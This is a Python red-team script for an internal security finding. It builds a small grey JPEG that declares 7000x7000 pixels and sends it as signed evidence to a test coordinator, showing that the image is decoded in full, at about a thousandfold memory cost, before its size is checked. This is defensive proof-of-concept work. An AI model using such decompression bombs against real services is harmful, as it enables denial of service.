"""Finding (low, attacker c: a compromised enrolled node): the coordinator decodes a node's
evidence JPEG in full before it compares the picture's size with the size signed
(``coordinator.evidence._picture``: ``cv2.imdecode`` first, then ``image.shape`` against
``evidence.width/height``, at most 1920 px). A JPEG's own header states its size, so a 192 kB
progressive grey JPEG (under the contract's 200 kB cap) that declares 7000 x 7000 is decoded to a
147 MB BGR array (plus libjpeg's coefficient buffers) in the worker for every such message, then
refused: about a thousandfold amplification, per worker process, as often as the node sends.
``coordinator.live_views.accept_snapshot`` has the same order (decode, then ``MAX_SIDE``).

This script builds the coordinator the tests build (``tests.support.world.embedded_world``, real
PostgreSQL), enrols node ``alpha``, stores one of its alerts, then hands the worker's
``accept_evidence`` that node's correctly signed evidence of the alert with the bomb as its
picture (signed as 640 x 360), and reports the process's peak memory before and after.

Run: PYTHONPATH=$PWD /work/main/.venv/bin/python redteam/evidence_jpeg_bomb.py
Exit 1 = the picture was decoded at its declared size before being refused (the finding),
0 = refused from its header.
"""

from __future__ import annotations

import io
import resource
import sys
import tempfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

from PIL import Image

from coordinator.errors import EvidenceRejected
from coordinator.evidence import accept_evidence
from nodes.event_sender import evidence_message
from nodes.events import StoredEvidence
from nodes.identity import load_identity
from tests.support.incident_events import event, send
from tests.support.world import embedded_world

T0 = datetime(2026, 12, 6, 8, 0, tzinfo=UTC)
SIDE = 7000


def peak_mib() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024


def main() -> int:
    buffer = io.BytesIO()
    Image.new("L", (SIDE, SIDE), 128).save(buffer, "JPEG", progressive=True, optimize=True,
                                           quality=50)
    bomb = buffer.getvalue()
    del buffer
    world = embedded_world(Path(tempfile.mkdtemp(prefix="rt-evidence-bomb-")))
    try:
        world.set_time(T0 + timedelta(days=1))
        world.add_node("alpha", "site-a")
        node = world.nodes["alpha"]
        alert = event(T0)
        send(world, [alert])
        key = load_identity(node.settings.keys_dir).signing
        message = evidence_message(StoredEvidence(alert.seq, "gate", T0, 640, 360, None, bomb),
                                   node.node_id, "site-a", key)
        before = peak_mib()
        try:
            accept_evidence(world.svc, message)
            outcome = "accepted"
        except EvidenceRejected as exc:
            outcome = f"refused: {exc}"
        grew = peak_mib() - before
        print(f"evidence message of {len(bomb)} bytes of JPEG ({SIDE}x{SIDE} declared, signed as "
              f"640x360) {outcome}")
        print(f"coordinator process peak memory {before} MiB -> {before + grew} MiB (+{grew})")
        found = grew >= SIDE * SIDE * 3 // 2**20 // 2
        print("FINDING: decoded in full before the signed size was checked" if found
              else "held")
        return 1 if found else 0
    finally:
        world.close()


if __name__ == "__main__":
    sys.exit(main())
